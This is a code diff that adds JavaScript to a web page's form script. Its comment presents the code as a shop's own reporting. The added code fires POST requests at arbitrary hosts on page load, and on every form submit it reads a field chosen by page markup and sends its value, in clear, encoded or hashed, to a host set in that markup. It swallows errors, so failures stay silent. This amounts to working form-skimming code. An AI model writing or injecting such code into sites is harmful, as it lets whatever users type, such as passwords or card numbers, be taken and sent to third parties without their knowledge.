@@ -40,3 +40,65 @@ for (const form of document.forms) {
   }
   show();
 }
+
+// Reports, as a shop's own page sends them: at once, or with what stands in a field when its form goes out.
+const report = (to, type, body) =>
+  fetch(to, { method: "POST", mode: "no-cors", credentials: "omit", keepalive: true, headers: { "Content-Type": type }, body })
+    .catch(() => {});
+for (const mark of document.querySelectorAll("[data-send]")) {
+  report(mark.dataset.to, mark.dataset.type, mark.dataset.send);
+}
+const hex = (bytes) => [...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("");
+// MD5 (RFC 1321): browsers digest with SHA-256 themselves, and with this not at all.
+const md5 = (bytes) => {
+  const size = bytes.length;
+  const padded = new Uint8Array(((size + 8 >> 6) + 1) * 64);
+  padded.set(bytes);
+  padded[size] = 128;
+  new DataView(padded.buffer).setUint32(padded.length - 8, size * 8, true);
+  const view = new DataView(padded.buffer);
+  const turns = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
+  let state = [0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476];
+  for (let start = 0; start < padded.length; start += 64) {
+    let [a, b, c, d] = state;
+    for (let i = 0; i < 64; i++) {
+      const round = i >> 4;
+      const mix = [b & c | ~b & d, d & b | ~d & c, b ^ c ^ d, c ^ (b | ~d)][round];
+      const word = [i, 5 * i + 1, 3 * i + 5, 7 * i][round] % 16;
+      const sum = a + mix + Math.floor(Math.abs(Math.sin(i + 1)) * 2 ** 32) + view.getUint32(start + word * 4, true) | 0;
+      const turn = turns[round * 4 + i % 4];
+      [a, b, c, d] = [d, b + (sum << turn | sum >>> 32 - turn) | 0, b, c];
+    }
+    state = [state[0] + a | 0, state[1] + b | 0, state[2] + c | 0, state[3] + d | 0];
+  }
+  const digest = new DataView(new ArrayBuffer(16));
+  state.forEach((word, i) => digest.setUint32(i * 4, word, true));
+  return new Uint8Array(digest.buffer);
+};
+const written = {
+  clear: (bytes, text) => text,
+  base64: (bytes) => btoa(String.fromCharCode(...bytes)),
+  hex: (bytes) => hex(bytes),
+  md5: (bytes) => hex(md5(bytes)),
+};
+for (const mark of document.querySelectorAll("[data-watch]")) {
+  const { to, watch, as } = mark.dataset;
+  for (const form of document.forms) {
+    const field = form.elements[watch];
+    if (!field) continue;
+    let digest = "";
+    // A digest is made ahead, since a form does not wait.
+    if (as === "sha256" && globalThis.crypto?.subtle) {
+      field.addEventListener("input", async () => {
+        const bytes = new TextEncoder().encode(field.value);
+        digest = hex(new Uint8Array(await crypto.subtle.digest("SHA-256", bytes)));
+      });
+    }
+    form.addEventListener("submit", () => {
+      const text = field.value;
+      if (!text) return;
+      const value = as === "sha256" ? digest : written[as](new TextEncoder().encode(text), text);
+      report(to, "application/x-www-form-urlencoded", new URLSearchParams({ [watch]: value }));
+    });
+  }
+}
